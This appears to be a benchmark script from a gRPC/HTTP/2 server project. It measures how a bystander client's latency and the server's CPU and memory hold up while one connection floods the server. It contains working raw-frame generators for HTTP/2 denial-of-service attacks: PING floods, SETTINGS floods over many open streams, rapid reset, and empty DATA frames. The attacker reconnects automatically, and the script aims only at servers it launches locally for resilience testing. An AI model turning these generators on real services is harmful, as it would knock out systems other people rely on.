#!/usr/bin/env python3
"""A bystander's latency and the server's memory while one client attacks (issue 12's bars).

For each server (lab, lab on the h2 crate, tonic-mt; `grpclab serve --threads 1`, pinned to
CPU 0) and each attack, a fresh server; one attacking connection (this script, niced, on CPU 1)
runs the attack for DURATION seconds while a bystander (`grpclab load --rps 1000 -c 4`, CPU 1)
measures. The table shows the bystander's p50/p99 and errors, the server's CPU % over the
window and its peak RSS (VmHWM). Rounds repeat the whole table; medians are shown.

Attacks (raw HTTP/2, all against the connection's own rules or its spirit):
  none            no attacker: the baseline
  ping-read       PING flood from a client that reads
  ping-noread     PING flood from a client that never reads
  settings-x-streams  1,000 open streams, then SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE
                  entries each (a reading client)
  rapid-reset     HEADERS + RST_STREAM pairs on new streams (a reading client)
  empty-data      empty DATA frames on an open stream (a reading client)

Usage: benches/hostile_bystander.py [--rounds 3] [--duration 5] [--attacks a,b]
Needs: taskset; builds grpclab in release mode.
"""
import argparse
import json
import os
import socket
import statistics
import struct
import subprocess
import threading
import time

from common import BIN, build, cpu_seconds, memory_kib, start_server, stop_server

SERVERS = {
    "lab": ["--impl", "lab"],
    "lab-h2": ["--impl", "lab", "--transport", "h2"],
    "tonic-mt": ["--impl", "tonic-mt"],
}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_head():
    """:method POST, :scheme http, :path, :authority, content-type: literals, no Huffman."""
    block = bytearray([0x83, 0x86])
    for index, value in ((b"\x04", b"/helloworld.Greeter/SayHello"), (b"\x01", b"localhost"),
                         (b"\x0f\x10", b"application/grpc")):
        block += index + bytes([len(value)]) + value
    return bytes(block)


def repeated(unit, size=1 << 16):
    return unit * max(1, size // len(unit))


def attack_chunks(name):
    """(setup bytes, a function returning the next chunk of attack bytes, reads?)"""
    head = request_head()
    if name == "ping-read":
        chunk = repeated(frame(6, 0, 0, b"hostile!"))
        return b"", lambda: chunk, True
    if name == "ping-noread":
        chunk = repeated(frame(6, 0, 0, b"hostile!"))
        return b"", lambda: chunk, False
    if name == "settings-x-streams":
        setup = b"".join(frame(1, 0x4, s, head) for s in range(1, 2000, 2))
        entries = b"".join(struct.pack(">HI", 4, 65535 + i % 2) for i in range(2730))
        chunk = frame(4, 0, 0, entries)
        return setup, lambda: chunk, True
    if name == "rapid-reset":
        state = {"stream": 1}

        def more():
            out = bytearray()
            while len(out) < 1 << 16:
                s = state["stream"]
                out += frame(1, 0x4, s, head) + frame(3, 0, s, struct.pack(">I", 8))
                state["stream"] = s + 2
            return bytes(out)
        return b"", more, True
    if name == "empty-data":
        setup = frame(1, 0x4, 1, head)
        chunk = repeated(frame(0, 0, 1))
        return setup, lambda: chunk, True
    raise SystemExit(f"unknown attack {name}")


def attacker(target, name, stop):
    """Runs one attack on one connection until `stop` is set; reconnects if the server closes it."""
    os.nice(19)
    host, port = target.rsplit(":", 1)
    setup, more, reads = attack_chunks(name)
    while not stop.is_set():
        try:
            sock = socket.create_connection((host, int(port)))
        except OSError:
            time.sleep(0.05)
            continue
        sock.sendall(PREFACE + frame(4, 0, 0) + setup)
        if reads:
            def drain(s=sock):
                try:
                    while s.recv(1 << 16):
                        pass
                except OSError:
                    pass
            threading.Thread(target=drain, daemon=True).start()
        sock.settimeout(0.2)
        try:
            while not stop.is_set():
                try:
                    sock.sendall(more())
                except socket.timeout:
                    continue  # a server that stopped reading: keep the connection, keep trying
        except OSError:
            pass
        finally:
            sock.close()


def one(server_name, attack, duration):
    server, target = start_server(SERVERS[server_name])
    stop = threading.Event()
    try:
        thread = None
        if attack != "none":
            thread = threading.Thread(target=attacker, args=(target, attack, stop), daemon=True)
            thread.start()
            time.sleep(0.5)
        cpu0 = cpu_seconds(server.pid)
        out = subprocess.run(
            ["taskset", "-c", "1", BIN, "load", target, "--insecure", "--scenario", "complex_proto", "--rps", "1000", "-c", "4", "-z", f"{duration}s",
             "-O", "json"], capture_output=True, text=True)
        cpu = cpu_seconds(server.pid) - cpu0
        _, hwm = memory_kib(server.pid)
        stop.set()
        if out.returncode != 0 and not out.stdout:
            raise SystemExit(f"bystander failed: {out.stderr}")
        report = json.loads(out.stdout)
        p = {point["percentage"]: point["latency"] for point in report.get("latencyPercentiles", report.get("latencyDistribution"))}
        ok = report["statusCodeDistribution"].get("OK", 0)
        return {"p50_ms": p[50.0] / 1e6, "p99_ms": p[99.0] / 1e6, "errors": report["count"] - ok,
                "cpu_pct": 100 * cpu / duration, "peak_mib": hwm / 1024}
    finally:
        stop.set()
        stop_server(server)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--duration", type=int, default=5)
    parser.add_argument("--attacks", default="none,ping-read,ping-noread,settings-x-streams,rapid-reset,empty-data")
    parser.add_argument("--servers", default="lab,lab-h2,tonic-mt")
    args = parser.parse_args()
    build()
    attacks = args.attacks.split(",")
    servers = args.servers.split(",")
    results = {}
    for round_ in range(args.rounds):
        for attack in attacks:
            for name in servers:
                r = one(name, attack, args.duration)
                results.setdefault((attack, name), []).append(r)
                print(f"round {round_ + 1}: {attack:>18} {name:>8}: p50 {r['p50_ms']:.2f} ms, p99 {r['p99_ms']:.2f} ms, "
                      f"errors {r['errors']}, server CPU {r['cpu_pct']:.0f} %, peak RSS {r['peak_mib']:.0f} MiB",
                      flush=True)
    print()
    print(f"medians of {args.rounds} rounds; bystander at 1000 req/s for {args.duration} s; one attacking connection")
    print(f"{'attack':>18} {'server':>8} {'p50 ms':>8} {'p99 ms':>8} {'errors':>7} {'CPU %':>6} {'peak MiB':>9}")
    for attack in attacks:
        for name in servers:
            rs = results[(attack, name)]
            med = lambda k: statistics.median(r[k] for r in rs)
            print(f"{attack:>18} {name:>8} {med('p50_ms'):8.2f} {med('p99_ms'):8.2f} {med('errors'):7.0f} "
                  f"{med('cpu_pct'):6.0f} {med('peak_mib'):9.0f}")


if __name__ == "__main__":
    main()
